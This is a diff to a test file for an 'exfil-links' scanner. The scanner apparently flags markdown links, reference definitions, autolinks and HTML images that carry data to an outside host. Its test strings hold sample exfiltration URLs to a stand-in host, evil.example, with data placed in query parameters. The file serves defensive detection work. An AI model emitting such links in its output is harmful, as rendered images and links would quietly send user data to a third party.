@@ -50,6 +50,8 @@ describe('exfil-links plugin', () => {
     }
     // The same definition used by a link only: a link (medium), as before.
     expect(scan(`See [this][r].\n\n[r]: https://evil.example/?q=${data}`).map((x) => x.ruleId)).to.deep.equal(['exfil-links.link-data']);
+    // A definition whose reference is out of sight (an earlier stream window): judged as an image.
+    expect(scan(`[r]: https://evil.example/?q=${data}`).map((x) => x.ruleId)).to.deep.equal(['exfil-links.image-data']);
     // Autolinks and HTML images.
     expect(scan(`Open <https://evil.example/c?d=${payload}> now`).map((x) => x.ruleId)).to.deep.equal(['exfil-links.link-data']);
     expect(scan(`<img alt="" src='https://evil.example/p.gif?d=${payload}'>`).map((x) => x.ruleId)).to.deep.equal(['exfil-links.image-data']);
